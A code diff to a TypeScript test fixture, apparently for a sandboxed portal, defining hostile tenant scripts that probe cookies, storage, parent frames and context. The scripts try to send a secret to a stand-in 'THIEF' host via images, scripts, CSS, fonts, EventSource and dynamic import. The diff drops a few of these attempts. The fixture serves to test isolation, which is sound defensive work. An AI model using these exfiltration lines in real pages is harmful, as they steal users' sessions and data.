@@ -1,6 +1,8 @@
 // Scripts of a tenant that mean harm, or were written badly. Each is a module script, published like any other. `THIEF` is an
 // address that listens: whoever reaches it has carried something away.
 
+import { closedWays, harmlessMistakes, leakyScripts, leavingScripts } from './leaky-scripts.ts';
+
 /** Tries one thing and writes down what came of it. */
 const attempts = `
   const found = [];
@@ -18,6 +20,10 @@ const attempts = `
 const asModule = (body: string): string => `export default async function start(portal) {${body}}`;
 
 export const hostileScripts: Readonly<Record<string, string>> = {
+  ...leakyScripts,
+  ...leavingScripts,
+  ...closedWays,
+  ...harmlessMistakes,
   /** Looks for the session, the portal's page, its storage and what the runtime left lying about. */
   leitor: asModule(`${attempts}
     await attempt('cookie', () => document.cookie);
@@ -31,7 +37,6 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     await attempt('top document', () => top.document.cookie);
     await attempt('frame element', () => window.frameElement);
     await attempt('opener', () => window.opener);
-    await attempt('nested frame', () => { const inner = document.createElement('iframe'); document.body.append(inner); return inner.contentDocument.cookie + inner.contentWindow.localStorage.length; });
     await attempt('service worker', () => navigator.serviceWorker.register('/assets/x.js').then(() => 'registered'));
     await attempt('broadcast', () => new Promise((resolve) => { const channel = new BroadcastChannel('x'); channel.onmessage = () => resolve('heard'); setTimeout(resolve, 100); }));
     await attempt('code in context', () => /code|token|select /i.test(JSON.stringify(portal.context).replace(/"entities".*?\\]/, '')) ? JSON.stringify(portal.context) : '');
@@ -60,11 +65,8 @@ export const hostileScripts: Readonly<Record<string, string>> = {
     await attempt('events', () => new Promise((resolve, reject) => { const s = new EventSource('THIEF/events'); s.onopen = () => resolve('open'); s.onerror = () => reject(new Error('no')); }));
     await attempt('image', () => element('img', { src: 'THIEF/image' + secret }));
     await attempt('script', () => element('script', { src: 'THIEF/script' + secret }));
-    await attempt('style', () => element('link', { rel: 'stylesheet', href: 'THIEF/style' + secret }));
-    await attempt('prefetch', () => element('link', { rel: 'prefetch', href: 'THIEF/prefetch' + secret }));
     await attempt('video', () => element('video', { src: 'THIEF/video' + secret }));
     await attempt('object', () => element('object', { data: 'THIEF/object' + secret }));
-    await attempt('iframe', () => { document.body.append(Object.assign(document.createElement('iframe'), { src: 'THIEF/iframe' + secret })); });
     await attempt('css', () => { document.body.style.backgroundImage = 'url(THIEF/css' + secret + ')'; });
     await attempt('font', () => new FontFace('x', 'url(THIEF/font' + secret + ')').load().then(() => 'loaded'));
     await attempt('import', () => import('THIEF/import' + secret).then(() => 'loaded'));
